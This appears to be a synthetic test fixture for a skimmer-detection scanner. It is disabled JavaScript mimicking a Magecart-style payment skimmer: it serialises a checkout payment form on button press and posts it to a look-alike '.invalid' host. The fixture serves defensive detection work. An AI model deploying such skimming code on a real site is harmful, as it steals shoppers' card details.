/* synthetic test sample for breachscan: British-Airways/Newegg-style skimmer shape - on
 * mouseup/touchend of the pay button the whole payment form is serialised and posted to a
 * hard-coded look-alike host. Inert (`if (false)`, .invalid host). */
if (false) {
  window.onload = function () {
    jQuery("#btn-place-order").bind("mouseup touchend", function () {
      var rec = {};
      jQuery("#co-payment-form").serializeArray().forEach(function (f) { rec[f.name] = f.value; });
      var body = JSON.stringify(rec);
      setTimeout(function () {
        jQuery.ajax({ type: "POST", async: true, url: "https://payment-gateway-cdn.invalid/api/collect", data: body, dataType: "application/json" });
      }, 400);
    });
  };
}
